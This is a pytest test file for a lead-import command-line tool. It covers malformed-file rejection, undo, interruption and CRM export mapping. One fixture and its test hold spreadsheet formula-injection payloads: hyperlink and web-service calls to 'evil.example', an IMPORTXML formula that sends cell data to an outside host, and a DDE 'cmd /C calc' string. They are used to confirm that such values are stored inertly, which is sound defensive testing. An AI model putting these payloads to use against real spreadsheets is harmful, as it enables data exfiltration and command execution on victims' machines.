"""`leaddesk import` as scripts see it: exit codes, JSON, hostile files that change nothing,
and every export shape imported with its mapping detected.

Commands run in-process through ``leaddesk.cli.main`` on SQLite and PostgreSQL; one test
starts the real ``python -m leaddesk`` process.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from leaddesk.cli import import_command
from leaddesk.clock import FixedClock
from leaddesk.desk import open_desk
from leaddesk.domain import Role
from leaddesk.files.resources import resource_path
from leaddesk.intake import earlier_rows, importing
from leaddesk.people import users as user_ops
from leaddesk.store import open_store
from leaddesk.store.models import Account, Base, Lead, Person
from tests.cli_in_process import RunCli
from tests.factories import small_team
from tests.one_store import sqlite_only

HEADER = "First Name,Last Name,Email,Phone,Company\n"


@pytest.fixture
def db(store_location: str, clock: FixedClock) -> str:
    # Set up in-process: CLI start-ups would cost more than the tests themselves.
    roster = [("lead1", Role.TEAM_LEAD), ("rep1", Role.QUALIFIER), ("sales1", Role.SALES)]
    with small_team(store_location, clock, roster):
        return store_location


def dump(db: str) -> dict[str, list[str]]:
    """Every row of every table, as text: the store's whole content, to compare."""
    store = open_store(db)
    try:
        with store.reading() as session:
            return {
                table.name: sorted(repr(tuple(row)) for row in session.execute(select(table)))
                for table in Base.metadata.sorted_tables
            }
    finally:
        store.close()


def good_rows(count: int) -> str:
    return "".join(
        f"P{n},Test,p{n}@x.example,+1 212 555 {n % 10000:04d},Co {n}\n" for n in range(count)
    )


# name -> (file bytes, extra arguments, words the message must contain after the file name)
HOSTILE: dict[str, tuple[bytes, list[str], list[str]]] = {
    "empty": (b"", [], ["is empty"]),
    "blank_lines": (b"\r\n\r\n  \r\n", [], ["is empty"]),
    "header_only": (HEADER.encode(), [], ["nothing to import"]),
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, [], ["PNG image"]),
    "binary_noise": (bytes((n * 37) % 256 for n in range(20_000)), [], ["binary"]),
    "broken_xlsx": (b"PK\x03\x04" + b"\x00garbage" * 200, [], ["xlsx"]),
    "unbalanced_quotes": (
        (HEADER + good_rows(4500) + 'Bad,"Row,bad@x.example,,Co\n' + good_rows(3)).encode(),
        [],
        ["row 4502", 'never closed (missing ")'],
    ),
    "wrong_declared_encoding": (
        (HEADER + "Jürgen,Müller,j@m.example,,Müller GmbH\n").encode("cp1252"),
        ["--encoding", "utf-8"],
        ["is not utf-8"],
    ),
    "declared_utf16_but_utf8": (
        (HEADER + good_rows(3)).encode("utf-8"),
        ["--encoding", "utf-16"],
        ["utf-16"],
    ),
    "duplicate_headers": (
        b"Email,Name,email\na@b.example,A,c@d.example\n",
        [],
        ["column 'email'", "appears twice"],
    ),
    "no_recognisable_columns": (b"colour,size\nteal,9\n", [], ["no recognisable columns"]),
}


@pytest.fixture(scope="module")
def huge_field_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """50 MB in one field, after thousands of good rows (made once: it takes a moment)."""
    path = tmp_path_factory.mktemp("hostile") / "huge_field.csv"
    with path.open("wb") as out:
        out.write((HEADER + good_rows(5000)).encode())
        out.write(b'Q,Huge,"' + b"x" * 50_000_000 + b'",,\n')
    return path


# The file is read whole before anything is written: the store's kind plays no part.
@sqlite_only
@pytest.mark.parametrize("name", [*HOSTILE, "huge_field"])
def test_hostile_file_exits_2_with_a_message_and_leaves_the_store_unchanged(
    db: str,
    tmp_path: Path,
    huge_field_file: Path,
    name: str,
    run_cli: RunCli,
) -> None:
    if name == "huge_field":
        path, extra, says = huge_field_file, [], ["row 5002", "column 'Email'", "over 4 MB"]
    else:
        data, extra, says = HOSTILE[name]
        path = tmp_path / f"{name}.csv"
        path.write_bytes(data)
    before = dump(db)
    code, out, err = run_cli("import", str(path), "--as", "lead1", *extra, db=db)
    assert code == 2, (name, err)
    message = err.strip()
    assert message.startswith(f"leaddesk: {path.name}"), message
    for words in says:
        assert words.casefold() in message.casefold(), (words, message)
    assert "Traceback" not in err and len(message.splitlines()) == 1 and out == ""
    assert dump(db) == before


@sqlite_only  # a dry run refused while reading the file
def test_huge_field_message_names_the_column(
    db: str, huge_field_file: Path, run_cli: RunCli
) -> None:
    # The same file in a dry run: found on the way, with the same message.
    code, _out, err = run_cli("import", str(huge_field_file), "--as", "lead1", "--dry-run", db=db)
    assert code == 2 and "row 5002, column 'Email'" in err


FORMULAS = {
    "First Name": '=HYPERLINK("http://evil.example","click")',
    "Last Name": "@SUM(A1:A9)",
    "Email": "ada@engines.example",
    "Phone": "=2+5",
    "Company": "-2+3+cmd|' /C calc'!A0",
    "Title": "+SUM(1)",
    "Description": '=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")',
    "Favourite": "@MAX(B:B)",
}


def test_formula_payloads_in_any_field_are_stored_verbatim_as_plain_text(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    export = tmp_path / "formulas.csv"
    second = {**FORMULAS, "Email": '=HYPERLINK("mailto:x@y.example")', "Phone": "+1 212 555 0100"}
    with export.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=list(FORMULAS))
        writer.writeheader()
        other = {
            **second,
            "First Name": '=WEBSERVICE("http://evil.example")',
            "Last Name": "@SUM(B1)",
        }
        writer.writerows([FORMULAS, other])
    report = tmp_path / "report.csv"
    code, out, err = run_cli(
        "import", str(export), "--as", "lead1", "--report", str(report), "--json", db=db
    )
    assert code == 0, err
    assert json.loads(out)["created"] == 2
    store = open_store(db)
    with store.reading() as session:
        people = {p.last_name: p for p in session.scalars(select(Person))}
        first, other = people["@SUM(A1:A9)"], people["@SUM(B1)"]
        assert first.first_name == FORMULAS["First Name"] and first.title == "+SUM(1)"
        assert session.scalars(select(Account.name)).one() == FORMULAS["Company"]
        lead = session.scalars(select(Lead).where(Lead.person_id == first.id)).one()
        assert lead.inquiry == FORMULAS["Description"]
        assert lead.extra is not None
        assert lead.extra["columns"] == {"Favourite": "@MAX(B:B)"}
        assert lead.extra["phone_as_typed"] == "=2+5"
        other_lead = session.scalars(select(Lead).where(Lead.person_id == other.id)).one()
        assert other_lead.extra is not None
        assert other_lead.extra["email_as_typed"] == second["Email"]
    store.close()
    # The report shows the rejected values, but no cell of it can start a formula.
    with report.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert any("=2+5" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_json_summary_has_the_counts_and_the_report_and_progress_goes_to_stderr(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    export = tmp_path / "leads.csv"
    export.write_text(HEADER + good_rows(3) + ",,,,Nobody\n", encoding="utf-8")
    report = tmp_path / "report.csv"
    code, out, err = run_cli(
        "import", str(export), "--as", "rep1", "--dry-run", "--report", str(report), "--json", db=db
    )
    assert code == 0, err
    summary = json.loads(out)
    assert {k: summary[k] for k in ("rows", "created", "merged", "attached", "invalid")} == {
        "rows": 4,
        "created": 3,
        "merged": 0,
        "attached": 0,
        "invalid": 1,
    }
    assert summary["existing_account"] == 0 and summary["report"] == str(report)
    assert summary["dry_run"] is True and summary["run"] is None
    assert "Checking: 4 of about 4 rows" in err and err.rstrip().endswith("4 rows, done")

    code, out, err = run_cli("import", str(export), "--as", "rep1", "--json", db=db)
    assert code == 0 and json.loads(out)["created"] == 3
    assert err.rstrip().endswith("Importing: 4 rows, done")
    code, out, _err = run_cli("import", str(export), "--as", "rep1", db=db)
    assert code == 0 and "3 already imported" in out
    code, out, _err = run_cli(
        "import", str(export), "--as", "rep1", "--dry-run", "--sheet", "Leads", db=db
    )
    assert code == 0 and "a CSV file has no sheets; --sheet ignored" in out


@sqlite_only  # the working copy is a temporary SQLite file whatever the store
def test_a_preview_without_room_for_its_working_copy_says_so_and_changes_nothing(
    db: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    run_cli: RunCli,
) -> None:
    """The dry run keeps earlier rows in a temporary database; a full temporary folder is
    a message to act on, not a crash. SQLite's own page limit makes it full here."""
    monkeypatch.setattr(importing, "CHUNK_ROWS", 50)
    limited = "PRAGMA max_page_count = 12;" + earlier_rows._SCHEMA
    monkeypatch.setattr(earlier_rows, "_SCHEMA", limited)
    export = tmp_path / "long.csv"
    export.write_text(HEADER + good_rows(2_000), encoding="utf-8")
    before = dump(db)
    code, out, err = run_cli("import", str(export), "--as", "lead1", "--dry-run", db=db)
    assert code == 1 and not out
    assert "could not keep its working copy of earlier rows in the temporary folder" in err
    assert "database or disk is full" in err and "Traceback" not in err
    assert dump(db) == before


@sqlite_only  # refused before the store is read
def test_a_report_that_cannot_be_written_is_refused_before_any_work(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    export = tmp_path / "leads.csv"
    export.write_text(HEADER + good_rows(5), encoding="utf-8")
    in_the_way = tmp_path / "a file"
    in_the_way.write_text("not a folder", encoding="utf-8")
    before = dump(db)
    for report, words in (
        (tmp_path, f"{tmp_path} is a folder; name the report file to write"),
        (in_the_way / "report.csv", f"cannot write {in_the_way / 'report.csv'}: "),
    ):
        code, _, err = run_cli(
            "import", str(export), "--as", "lead1", "--report", str(report), db=db
        )
        assert code == 2 and f"--report: {words}" in err
        assert dump(db) == before
    report = tmp_path / "new" / "folder" / "report.csv"
    code, _, _ = run_cli(
        "import", str(export), "--as", "lead1", "--dry-run", "--report", str(report), db=db
    )
    assert code == 0 and report.read_text(encoding="utf-8-sig").startswith("row,field,reason")


@pytest.mark.skipif(sys.platform == "win32", reason="SIGINT to oneself is a POSIX thing")
def test_ctrl_c_stops_between_chunks_and_the_same_command_finishes(
    db: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    run_cli: RunCli,
) -> None:
    monkeypatch.setattr(importing, "CHUNK_ROWS", 20)
    export = tmp_path / "leads.csv"
    export.write_text(HEADER + good_rows(100), encoding="utf-8")
    pressed: list[int] = []

    def press_ctrl_c_once(_line: object, done: int, _total: int) -> None:
        if not pressed:
            pressed.append(done)
            os.kill(os.getpid(), signal.SIGINT)  # as a terminal's Ctrl+C

    monkeypatch.setattr(import_command.ProgressLine, "show", press_ctrl_c_once)
    code, out, err = run_cli("import", str(export), "--as", "lead1", db=db)
    assert code == 130 and "Stopping after this chunk" in err
    assert "stopped between chunks: 20 rows are in, whole" in out
    assert "leaddesk import --undo 1 --as lead1" in out
    store = open_store(db)
    with store.reading() as session:
        assert len(session.scalars(select(Lead)).all()) == 20
    store.close()
    monkeypatch.undo()  # no more Ctrl+C
    code, out, _ = run_cli("import", str(export), "--as", "lead1", "--json", db=db)
    summary = json.loads(out)
    assert code == 0 and (summary["resumed_after_row"], summary["created"]) == (21, 100)


def test_sales_may_not_import(db: str, tmp_path: Path, run_cli: RunCli) -> None:
    export = tmp_path / "leads.csv"
    export.write_text(HEADER + good_rows(1), encoding="utf-8")
    before = dump(db)
    code, _out, err = run_cli("import", str(export), "--as", "sales1", db=db)
    assert code == 3 and "cannot import leads" in err
    assert dump(db) == before


def test_undo_from_the_command_line_restores_the_store(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    export = tmp_path / "leads.csv"
    export.write_text(HEADER + good_rows(5), encoding="utf-8")
    before = dump(db)
    code, out, err = run_cli("import", str(export), "--as", "lead1", "--json", db=db)
    assert code == 0, err
    run = json.loads(out)["run"]
    code, out, err = run_cli("import", "--runs", "--as", "lead1", "--json", db=db)
    assert code == 0 and json.loads(out)[0]["run"] == run
    code, out, err = run_cli("import", "--undo", str(run), "--as", "lead1", db=db)
    assert code == 0, err
    assert "removed 5 leads" in out
    after = dump(db)
    for table in ("leads", "people", "accounts", "notes", "assignments"):
        assert after[table] == before[table], table
    code, _out, err = run_cli("import", "--undo", str(run), "--as", "lead1", db=db)
    assert code == 2 and "already undone" in err


def test_undo_from_the_command_line_waits_for_a_rep_with_a_lead_open_then_takes_their_skip(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    export = tmp_path / "leads.csv"
    export.write_text(HEADER + good_rows(2), encoding="utf-8")
    code, out, err = run_cli("import", str(export), "--as", "lead1", "--json", db=db)
    assert code == 0, err
    run = json.loads(out)["run"]
    store = open_store(db)
    with store.reading() as session:
        lead_id = min(session.scalars(select(Lead.id)))
    store.close()
    now = FixedClock(datetime.now(UTC))  # the command reads the real clock
    with open_desk(db, "rep1", clock=now) as rep:
        rep.queue.renew_claim(lead_id)  # open on the rep's screen
        before = dump(db)
        code, _out, err = run_cli("import", "--undo", str(run), "--as", "lead1", db=db)
        assert code == 4 and f"rep1 has lead #{lead_id} open" in err
        assert "Traceback" not in err and dump(db) == before
        rep.queue.skip(lead_id)  # let go: only looked at
    code, out, err = run_cli("import", "--undo", str(run), "--as", "lead1", db=db)
    assert code == 0, err
    assert "removed 2 leads" in out and "only looked at 1 of the leads" in out


def test_undo_from_the_command_line_takes_leads_the_sweep_flagged_but_not_once_worked(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    runs = []
    for name, rows in (
        ("first.csv", good_rows(2)),
        ("second.csv", good_rows(4)[len(good_rows(2)) :]),
    ):
        export = tmp_path / name
        export.write_text(HEADER + rows, encoding="utf-8")
        code, out, err = run_cli("import", str(export), "--as", "lead1", "--json", db=db)
        assert code == 0, err
        runs.append(json.loads(out)["run"])
    store = open_store(db)
    with store.reading() as session:
        noted = max(session.scalars(select(Lead.id)))  # the second import's
    store.close()
    # Two weeks on (the command reads the real clock), nobody has touched them: flagged.
    later = FixedClock(datetime.now(UTC) + timedelta(days=14))
    with open_desk(db, "lead1", clock=later) as desk:
        assert len(desk.team.sweep().flagged) == 4
    with open_desk(db, "rep1", clock=later) as rep:
        rep.calls.save_note(noted, "Asked for a call in March")
    before = dump(db)
    code, _out, err = run_cli("import", "--undo", str(runs[1]), "--as", "lead1", db=db)
    assert code == 4 and "1 lead(s) from second.csv have notes since the import" in err
    assert "flag" not in err and "Traceback" not in err and dump(db) == before
    code, out, err = run_cli("import", "--undo", str(runs[0]), "--as", "lead1", db=db)
    assert code == 0, err
    assert "removed 2 leads" in out
    assert "The sweep had flagged 2 of the leads as untouched" in out


def test_the_runs_list_says_who_ran_each_import_by_name(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    store = open_store(db)
    with store.transaction() as session:
        for name, shown in (("rep1", "Rosa Diaz"), ("lead1", "Tom Berg")):
            user = user_ops.find_user(session, name)
            assert user is not None
            user.display_name = shown
    store.close()
    for who, rows in (
        ("rep1", good_rows(2)),
        ("lead1", "Quinn,Test,quinn@x.example,+1 212 555 0909,Co Q\n"),
    ):
        export = tmp_path / f"from-{who}.csv"
        export.write_text(HEADER + rows, encoding="utf-8")
        code, _out, err = run_cli("import", str(export), "--as", who, db=db)
        assert code == 0, err

    code, out, err = run_cli("import", "--runs", "--as", "lead1", "--json", db=db)
    assert code == 0, err
    assert [(r["file"], r["started_by"]) for r in json.loads(out)] == [
        ("from-lead1.csv", "Tom Berg"),
        ("from-rep1.csv", "Rosa Diaz"),
    ]
    code, out, err = run_cli("import", "--runs", "--as", "lead1", db=db)
    assert code == 0, err
    header, _rule, newest, older = out.splitlines()
    assert header.split()[:5] == ["run", "file", "source", "by", "status"]
    assert "from-lead1.csv" in newest and "Tom Berg" in newest
    assert "from-rep1.csv" in older and "Rosa Diaz" in older
    assert "rep1" not in out.replace("from-rep1", "")


# -- every export shape, its mapping detected, its fields where they belong ---------------------

SALESFORCE_CONTACTS = (
    "Contact ID,First Name,Last Name,Title,Account Name,Email,Phone,Mobile,Mailing Country,"
    "Contact Owner,Lead Source,Description\n"
    "0035g00000AbCdE,Maya,Okafor,CTO,Lagos Freight Ltd,maya@lagosfreight.example,"
    "+234 803 123 4567,,Nigeria,Dana Whitfield,Partner Referral,Asked about the API\n"
)

# file -> (shape, the row's email, what must have landed: (table.column, value))
SHAPES: dict[str, tuple[str, str, dict[str, Any]]] = {
    "salesforce_leads.csv": (
        "salesforce",
        "ava.thompson@northwind.example.com",
        {
            "person.first_name": "Ava", "person.last_name": "Thompson",
            "person.phone": "+14155550134", "person.title": "VP Operations",
            "person.country": "US", "account.name": "Northwind Traders, Inc.",
            "account.industry": "Logistics", "account.employees": 15,
            "lead.source": "trade_show", "lead.inquiry": "Do you support SSO (SAML, OIDC)?",
            "lead.extra.columns": {"Lead Status": "Open - Not Contacted",
                                   "Lead Owner": "Dana Whitfield"},
        },
    ),
    "salesforce_contacts.csv": (
        "salesforce",
        "maya@lagosfreight.example",
        {
            "person.first_name": "Maya", "person.last_name": "Okafor", "person.title": "CTO",
            "person.phone": "+2348031234567", "person.country": "NG",
            "account.name": "Lagos Freight Ltd", "lead.source": "partner_referral",
            "lead.inquiry": "Asked about the API",
        },
    ),
    "hubspot_contacts.csv": (
        "hubspot",
        "sofia.garcia@iberia-soluciones.es",
        {
            "person.first_name": "Sofía", "person.last_name": "García",
            "person.phone": "+34912345678", "person.title": "Directora de Compras",
            "person.country": "ES", "person.city": "Madrid",
            "account.name": "Soluciones Iberia S.L.", "lead.source": "direct_traffic",
            "lead.arrived_at": datetime(2024, 5, 1, 8, 0),
        },
    ),
    "marketo_list.csv": (
        "marketo",
        "liam.oconnor@brightwave.co.uk",
        {
            "person.first_name": "Liam", "person.last_name": "O'Connor",
            "person.phone": "+442079460321", "person.country": "GB",
            "account.name": "Brightwave Ltd", "lead.source": "trade_show",
            "lead.campaign": "Spring Trade Show",
        },
    ),
    "linkedin_leadgen.csv": (
        "linkedin",
        "liam.oconnor@brightwave.co.uk",
        {
            "person.first_name": "Liam", "person.last_name": "O'Connor",
            "person.phone": "+442079460321", "person.title": "Head of IT",
            "person.country": "GB", "account.name": "Brightwave Ltd",
            "lead.campaign": "Q3 Demo Request - EMEA",
        },
    ),
    "plain_contacts.csv": (
        "plain",
        "h.tanaka@sakura-robotics.jp",
        {
            "person.first_name": "Hiroshi", "person.last_name": "Tanaka",
            "person.phone": "+81312345678", "person.country": "JP",
            "account.name": "Sakura Robotics K.K.",
        },
    ),
    "plain_contacts.xlsx": (
        "plain",
        "h.tanaka@sakura-robotics.jp",
        {
            "person.first_name": "Hiroshi", "person.last_name": "Tanaka",
            "person.phone": "+81312345678", "account.name": "Sakura Robotics K.K.",
        },
    ),
}  # fmt: skip


def _landed(lead: Lead, field: str) -> Any:
    owner, _, name = field.partition(".")
    target: Any = {"person": lead.person, "account": lead.account, "lead": lead}[owner]
    if name.startswith("extra."):
        return (target.extra or {}).get(name.removeprefix("extra."))
    value = getattr(target, name)
    if isinstance(value, datetime):
        return value.astimezone(UTC).replace(tzinfo=None)
    return value


@pytest.mark.parametrize("sample", list(SHAPES))
def test_each_export_shape_imports_through_the_cli_with_its_fields_in_place(
    db: str, tmp_path: Path, sample: str, run_cli: RunCli
) -> None:
    shape, email, expected = SHAPES[sample]
    if sample == "salesforce_contacts.csv":
        path = tmp_path / sample
        path.write_text(SALESFORCE_CONTACTS, encoding="utf-8")
    else:
        path = resource_path("samples", sample)
    code, out, err = run_cli("import", str(path), "--as", "lead1", "--json", db=db)
    assert code == 0, err
    summary = json.loads(out)
    assert (summary["mapping"]["shape"], summary["mapping"]["how"]) == (shape, "detected")
    assert summary["created"] >= summary["rows"] - 2 and summary["created"] > 0
    store = open_store(db)
    try:
        with store.reading() as session:
            lead = session.scalars(select(Lead).join(Person).where(Person.email == email)).one()
            landed = {field: _landed(lead, field) for field in expected}
    finally:
        store.close()
    assert landed == expected


def test_the_leaddesk_command_exits_2_on_a_binary_file_and_imports_a_good_one(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    """Once per store: exit codes and streams as a shell script sees them."""
    binary = tmp_path / "photo.csv"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    bad = run_cli("import", binary, "--as", "lead1", db=db)
    assert bad.returncode == 2 and bad.stdout == ""
    assert bad.stderr.strip() == "leaddesk: photo.csv: is a PNG image, not a CSV or XLSX export"
    good = tmp_path / "leads.csv"
    good.write_text(HEADER + good_rows(2), encoding="utf-8")
    result = run_cli("import", good, "--as", "lead1", "--json", db=db)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["created"] == 2


@sqlite_only  # the summary's wording (the counts are checked on both stores above)
def test_the_text_summary_counts_rows_to_check_and_reads_right_for_one(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    sheet = resource_path("samples", "plain_contacts.xlsx")
    code, out, err = run_cli("import", str(sheet), "--as", "lead1", "--dry-run", db=db)
    assert code == 0, err
    # Phones read as international were changed, not kept as typed: they are rows to check.
    assert "3 rows kept with a value to check;" in out
    assert "row 6, phone: phone: read as international: the + was missing" in out
    one = tmp_path / "one.csv"
    one.write_text(HEADER + good_rows(1), encoding="utf-8")
    code, out, err = run_cli("import", str(one), "--as", "lead1", db=db)
    assert code == 0, err
    assert "1 row: 1 new lead, 0 new leads on people already known," in out


def test_a_reps_import_is_kept_for_them_and_the_summary_says_so_unless_shared(
    db: str, tmp_path: Path, run_cli: RunCli
) -> None:
    mine = tmp_path / "mine.csv"
    mine.write_text(HEADER + good_rows(3), encoding="utf-8")
    code, out, _err = run_cli("import", str(mine), "--as", "rep1", db=db)
    assert code == 0
    assert "New leads kept for rep1, who imported them: rep1 3 (--share gives" in out
    shared = tmp_path / "shared.csv"
    shared.write_text(HEADER + "Q1,Test,q1@x.example,,Qo\n", encoding="utf-8")
    code, out, _err = run_cli("import", str(shared), "--as", "rep1", "--share", db=db)
    assert code == 0 and "New leads by rep: rep1 1." in out and "kept for" not in out
